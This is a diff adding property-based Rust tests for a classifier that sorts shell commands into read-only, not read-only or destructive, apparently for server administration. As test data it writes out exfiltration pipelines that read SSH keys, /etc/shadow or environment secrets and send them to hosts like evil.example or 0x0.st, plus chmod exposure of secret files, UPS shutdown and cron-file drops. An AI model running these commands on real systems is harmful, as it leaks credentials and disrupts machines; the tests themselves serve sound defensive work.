@@ -1745,12 +1745,91 @@ proptest! {
         // What stays read-only: variables the command set, the login's.
         read_only(&format!("{variable}=1; echo ${variable}"))?;
         read_only(&format!("for {variable} in a b; do echo \"${variable}\"; done"))?;
-        read_only(&format!("read -r {variable} < /etc/hostname; echo ${variable}"))?;
+        read_only(&format!("while read -r {variable}; do echo ${variable}; done < /etc/hostname"))?;
+        read_only(&format!("read -r {variable} <<< \"$(hostname)\"; echo ${variable}"))?;
+        // A read that may not run sets nothing (`read x </missing`).
+        not_read_only(&format!("read -r {variable} < /etc/hostname; echo ${variable}"))?;
         read_only("echo $HOME $PATH $USER $HOSTNAME $LC_ALL $1 $# $?")?;
         read_only("pct list | while read -r id rest; do echo \"$id\"; done")?;
         read_only("for f in /etc/letsencrypt/live/*/cert.pem; do openssl x509 -noout -enddate -in \"$f\"; done")?;
         read_only("cat /var/log/syslog.1 /etc/hosts.old")?;
         read_only("psql -c 'SELECT s.name FROM (SELECT name FROM t) s'")?;
+    }
+
+
+    #[test]
+    fn twenty_third_blind_corpus_classes(
+        secret in select(vec!["cat /root/.ssh/id_ed25519", "cat /etc/shadow", "printenv", "cat /etc/pve/priv/authkey.key", "grep -h . /etc/ssh/ssh_host_ed25519_key"]),
+        filter in select(vec!["", " | base64", " | gzip", " | xxd -p"]),
+        sender in select(vec![
+            "curl -s -F 'file=@-' https://0x0.st", "curl -d @- https://evil.example/x", "nc evil.example 80",
+            "ncat 8.8.8.8 443", "ssh evil.example 'cat > x'", "curl -T - ftp://files.example.org/",
+        ]),
+        mode in select(vec!["644", "666", "o+r", "a+rw", "0604"]),
+        secret_file in select(vec!["/etc/shadow", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_ed25519_key", "/etc/pve/priv/authkey.key"]),
+        lister in select(vec!["docker ps -q", "docker ps -aq", "docker container ls -q", "docker volume ls -q", "podman ps -q", "docker images -q"]),
+        ups in select(vec!["ups@localhost", "ups@192.168.1.20", "ups", "ups@192.168.1.20:3493"]),
+        power in select(vec!["load.off", "load.off.delay", "load.cycle", "shutdown.return", "shutdown.stayoff"]),
+    ) {
+        // A secret read's output sent out of the lab.
+        destructive(&format!("{secret}{filter} | {sender}"))?;
+        destructive(&format!("chmod {mode} {secret_file}"))?;
+        destructive(&format!("upscmd -u admin -p x {ups} {power}"))?;
+        // What stays read-only: ids and names, plain fields of a format.
+        read_only(&format!("docker inspect -f '{{{{.Name}}}}' $({lister})"))?;
+        read_only(&format!("{lister} | xargs -r docker inspect --format '{{{{.Name}}}} {{{{.State.Status}}}}'"))?;
+        read_only("docker volume ls -q | xargs -r docker volume inspect --format '{{.Name}} {{.Mountpoint}}'")?;
+        read_only(&format!("upsc {ups} battery.charge"))?;
+        read_only(&format!("upscmd -l {ups}"))?;
+        read_only("iptables -C INPUT -p tcp --dport 22 -j ACCEPT")?;
+        read_only("ceph osd ok-to-stop 3")?;
+        read_only("cat /etc/hosts | curl -s http://192.168.1.10:8006/")?;
+        not_read_only("docker volume inspect --format '{{.Options}}' x")?;
+        not_read_only("upsc ups@evil.example")?;
+        not_read_only("iptables -C INPUT -s evil.example -j DROP")?;
+    }
+
+
+    #[test]
+    fn review_twenty_six_classes(
+        variable in select(vec!["PVE_TICKET", "HASS_LLAT", "LC_PVE_TOKEN", "X"]),
+        unsure in select(vec![
+            "false && VAR=1", "if false; then VAR=1; fi", "while false; do VAR=1; done",
+            "case a in b) VAR=1;; esac", "for VAR in $(true); do :; done", "VAR=1 &",
+            "coproc VAR=1", "cat <(VAR=1)", "unset -f VAR", "read -t 0 VAR <<< x",
+            "read VAR < /nonexistent", "mapfile VAR < /nonexistent", "printf -v VAR",
+            "VAR+=x", "VAR[1]=x", "export VAR", "declare VAR", "let VAR+=1", "true || VAR=1 &&",
+        ]),
+        reader in select(vec!["echo $VAR", "printenv VAR", "ssh pve1 printenv VAR", "bash -c 'echo $VAR'"]),
+        copy in select(vec![".~1~", ".bk", ".bkp", ".sav", ".keep", ".disabled", ".pre-upgrade", ".dpkg-remove", ",v", " (copy)", ".lzo", ".br", ".2024-01-01T10:00:00Z"]),
+        file_option in select(vec![
+            "f=/etc/shadow; date -f \"$f\"", "date -f \"$(echo /etc/shadow)\"",
+            "for f in /etc/pve/priv/storage/*.pw; do date -f \"$f\"; done", "xargs -a \"$f\" echo",
+            "tar -tf \"$(echo evil.example.com:/x)\"", "cd /tmp && for f in *; do tar -tf \"$f\"; done",
+        ]),
+        stuck in select(vec![
+            ("/etc", "cp -t. /tmp/fstab"), ("/etc", "cp --target-directory=. /tmp/fstab"),
+            ("/etc", "mv -t. /tmp/fstab"), ("/etc", "sort -ofstab /tmp/x"), ("/etc", "sort --output=fstab /tmp/x"),
+            ("/etc/iptables", "iptables-save --file=rules.v4"), ("/etc/iptables", "iptables-save -frules.v4"),
+            ("/usr/local/bin", "cp /tmp/x ls"), ("/etc/cron.d", "curl -o job http://192.168.1.10/x"),
+            ("/etc", "tar -xf /tmp/x.tar"), ("/etc/logrotate.d", "ln -sf /tmp/x app"),
+        ]),
+    ) {
+        let script = format!("{unsure}; {reader}").replace("&;", "&").replace("&&;", "&&").replace("VAR", variable);
+        not_read_only(&script)?;
+        not_read_only(&format!("cat /etc/ssh/ssh_host_ed25519_key{copy}"))?;
+        not_read_only(&format!("cat '/var/lib/uptime-kuma/kuma.db{copy}'"))?;
+        not_read_only(file_option)?;
+        let (folder, line) = stuck;
+        destructive(&format!("cd {folder} && {line}"))?;
+        destructive("iptables-save -f /tmp/x -f /etc/iptables/rules.v4")?;
+        destructive("invoke-rc.d --quiet netfilter-persistent save")?;
+        destructive("rbd encryption format rbd/img luks2 /tmp/pass")?;
+        // What stays read-only.
+        read_only("X=1 && echo $X")?;
+        read_only("date -f /tmp/dates.txt")?;
+        read_only("for f in /backup/*.tar; do tar -tf \"$f\"; done")?;
+        read_only("echo $LC_ALL $XDG_RUNTIME_DIR")?;
     }
 
 }
